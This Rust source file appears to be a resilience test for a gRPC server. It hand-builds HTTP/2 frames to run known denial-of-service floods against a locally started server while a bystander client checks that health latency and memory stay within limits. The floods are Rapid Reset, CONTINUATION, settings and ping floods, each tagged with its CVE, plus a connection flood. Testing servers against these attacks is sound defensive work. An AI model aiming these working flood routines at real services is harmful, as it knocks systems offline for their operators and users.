//! Floods of frames and connections, written by hand: no library sends them.
//!
//! Frames are those of RFC 9113; header blocks are HPACK literals (RFC 7541).

use std::net::SocketAddr;
use std::time::{Duration, Instant};

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::task::JoinHandle;

use super::bystander;
use super::server::Server;
use super::{Outcome, say};

/// Time that each flood lasts.
const TIME: Duration = Duration::from_secs(5);
/// Connections that flood at once.
const CONNECTIONS: usize = 4;
/// MiB by which the server may grow meanwhile, the bystander's own posts included.
const GROWTH_MAX: u64 = 64;
/// Health must answer 99 of 100 times within this.
const HEALTH_MAX: Duration = Duration::from_millis(50);
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;
const END_HEADERS: u8 = 4;

/// A frame: nine bytes and the payload.
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or(0).to_be_bytes();
    let mut frame = vec![length[1], length[2], length[3], kind, flags];
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

/// A header block of literals that are not indexed.
fn block(headers: &[(&str, &str)]) -> Vec<u8> {
    let mut block = Vec::new();
    for (name, value) in headers {
        block.push(0);
        for text in [name, value] {
            block.push(u8::try_from(text.len()).unwrap_or(0));
            block.extend(text.as_bytes());
        }
    }
    block
}

fn call() -> Vec<u8> {
    block(&[
        (":method", "POST"),
        (":scheme", "http"),
        (":path", "/pounce.v1.ScoringService/ScoreStream"),
        (":authority", "localhost"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ])
}

/// The n-th piece of a flood.
type Piece = fn(u32) -> Vec<u8>;

/// Streams that are opened and reset at once (CVE-2023-44487).
fn rapid_reset(n: u32) -> Vec<u8> {
    let stream = 2 * n + 1;
    let mut piece = frame(HEADERS, END_HEADERS, stream, &call());
    piece.extend(frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()));
    piece
}

/// Headers that never end (CVE-2024-27316).
fn continuation(n: u32) -> Vec<u8> {
    if n == 0 {
        frame(HEADERS, 0, 1, &call())
    } else {
        frame(CONTINUATION, 0, 1, &block(&[(&format!("x-{n}"), "late again")]))
    }
}

/// Settings, each to be acknowledged (CVE-2019-9515).
fn settings(_: u32) -> Vec<u8> {
    frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 255, 255])
}

/// Pings, each to be answered (CVE-2019-9512).
fn ping(_: u32) -> Vec<u8> {
    frame(PING, 0, 0, &[7; 8])
}

pub(crate) async fn run() -> Outcome<()> {
    let floods: [(&str, Piece, bool); 6] = [
        ("rapid reset", rapid_reset, true),
        ("endless headers", continuation, true),
        ("settings", settings, true),
        ("settings, answers never read", settings, false),
        ("pings", ping, true),
        ("pings, answers never read", ping, false),
    ];
    for (name, piece, reads) in floods {
        let server = Server::start(0)?;
        bystander::score_some(&server).await?;
        let addr: SocketAddr = server.addr.trim_start_matches("http://").parse()?;
        let floods: Vec<_> =
            (0..CONNECTIONS).map(|_| apart(move || flood(addr, piece, reads))).collect();
        let seen = bystander::watch(&server, TIME).await?;
        let (mut pieces, mut connections) = (0, 0);
        for flood in floods {
            let (sent, opened) = flood.await?;
            pieces += sent;
            connections += opened;
        }
        told(&format!("flood of {name}: {pieces} sent, {connections} connections"), &seen)?;
    }
    let server = Server::start(0)?;
    bystander::score_some(&server).await?;
    let addr: SocketAddr = server.addr.trim_start_matches("http://").parse()?;
    let connects = apart(move || connect(addr));
    let seen = bystander::watch(&server, TIME).await?;
    told(&format!("{} connections opened and dropped", connects.await?), &seen)
}

fn told(what: &str, seen: &bystander::Seen) -> Outcome<()> {
    if seen.grown() > GROWTH_MAX || seen.health_p99() > HEALTH_MAX {
        let limits = format!("{HEALTH_MAX:?} and {GROWTH_MAX} MiB are the limits");
        return Err(format!("{what}: {seen}; {limits}").into());
    }
    say(&format!("{what}: {seen}; another client was answered"))
}

/// Runs a flood on a thread of its own, as another client would: its tasks must not hold up those of
/// the bystander, who is to wait for nobody but the server.
fn apart<T: Send + 'static, F: Future<Output = T>>(
    flood: impl FnOnce() -> F + Send + 'static,
) -> JoinHandle<T> {
    tokio::task::spawn_blocking(|| {
        let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build();
        runtime.expect("a thread can run tasks").block_on(flood())
    })
}

/// Sends pieces for the time, on new connections where the server ends one; how many pieces on
/// how many connections.
async fn flood(addr: SocketAddr, piece: Piece, reads: bool) -> (u64, u64) {
    let (mut sent, mut connections) = (0, 0);
    let end = Instant::now() + TIME;
    while Instant::now() < end {
        let Ok(socket) = TcpStream::connect(addr).await else { continue };
        connections += 1;
        let (mut read, mut write) = socket.into_split();
        let reader = tokio::spawn(async move {
            let mut buffer = vec![0; 1 << 16];
            while reads && read.read(&mut buffer).await.is_ok_and(|bytes| bytes > 0) {}
            // Not to be dropped before the end: a half that is gone would end the connection.
            if !reads {
                tokio::time::sleep_until(end.into()).await;
            }
        });
        let opening = [PREFACE, &frame(SETTINGS, 0, 0, &[])].concat();
        let mut alive = write.write_all(&opening).await.is_ok();
        let mut n = 0;
        while alive && Instant::now() < end {
            let pieces: Vec<u8> = (n..n + 100).flat_map(piece).collect();
            n += 100;
            let written = tokio::time::timeout_at(end.into(), write.write_all(&pieces)).await;
            alive = matches!(written, Ok(Ok(())));
            sent += if alive { 100 } else { 0 };
        }
        reader.abort();
    }
    (sent, connections)
}

/// Opens connections and drops them; how many.
async fn connect(addr: SocketAddr) -> u64 {
    let end = Instant::now() + TIME;
    let mut opened = 0;
    while Instant::now() < end {
        opened += u64::from(TcpStream::connect(addr).await.is_ok());
    }
    opened
}
